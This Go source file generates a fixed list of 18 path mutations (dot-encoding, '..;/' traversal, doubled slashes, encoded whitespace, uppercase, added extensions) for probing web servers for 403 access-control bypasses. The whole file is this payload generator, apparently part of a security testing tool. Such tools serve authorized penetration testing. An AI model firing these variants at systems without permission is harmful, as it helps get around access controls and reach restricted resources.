// Package variants renders the fixed set of path transformations used
// to probe for 403 bypasses. Generation is pure: the same input path
// always yields the same 18 variants in the same order.
package variants

import "strings"

// Technique names one path transformation rule.
type Technique string

const (
	Plain              Technique = "plain"
	DotEncode          Technique = "dot-encode"
	TrailingDot        Technique = "trailing-dot"
	DoubleSlash        Technique = "double-slash"
	DotSegment         Technique = "dot-segment"
	TripleSlash        Technique = "triple-slash"
	SemicolonTraversal Technique = "semicolon-traversal"
	Semicolon          Technique = "semicolon"
	BackslashWildcard  Technique = "backslash-wildcard"
	Wildcard           Technique = "wildcard"
	EncodedSpace       Technique = "encoded-space"
	EncodedTab         Technique = "encoded-tab"
	Uppercase          Technique = "uppercase"
	QueryMarker        Technique = "query-marker"
	QueryBypass        Technique = "query-bypass"
	ExtHTML            Technique = "ext-html"
	ExtPHP             Technique = "ext-php"
	ExtJSON            Technique = "ext-json"
)

// Techniques lists every rule in generation order.
var Techniques = [...]Technique{
	Plain, DotEncode, TrailingDot, DoubleSlash, DotSegment, TripleSlash,
	SemicolonTraversal, Semicolon, BackslashWildcard, Wildcard,
	EncodedSpace, EncodedTab, Uppercase, QueryMarker, QueryBypass,
	ExtHTML, ExtPHP, ExtJSON,
}

// Count is the number of variants produced per path.
const Count = len(Techniques)

// Variant is one transformed path. Rendered is the string appended to
// the target base URL; most rules carry their own leading slash.
type Variant struct {
	SourcePath string
	Technique  Technique
	Rendered   string
}

// URL joins the variant with a target base URL. The base's trailing
// slash is dropped so rules control their own separators.
func (v Variant) URL(base string) string {
	return strings.TrimSuffix(base, "/") + v.Rendered
}

// Generate applies every technique to path and returns the variants in
// fixed order. The input is used verbatim apart from trimming slashes,
// so a path needing double encoding simply renders as-is.
func Generate(path string) []Variant {
	p := strings.Trim(path, "/")

	rendered := [Count]string{
		"/" + p,
		"/%2e/" + p,
		"/" + p + "/.",
		"//" + p + "//",
		"/./" + p + "/./",
		"///" + p + "///",
		"/" + p + "..;/",
		"/" + p + ";/",
		p + `\*`,
		"/" + p + "/*",
		"/" + p + "%20",
		"/" + p + "%09",
		"/" + strings.ToUpper(p),
		"/" + p + "?",
		"/" + p + "/?anything",
		"/" + p + ".html",
		"/" + p + ".php",
		"/" + p + ".json",
	}

	out := make([]Variant, Count)
	for i, tech := range Techniques {
		out[i] = Variant{SourcePath: path, Technique: tech, Rendered: rendered[i]}
	}
	return out
}
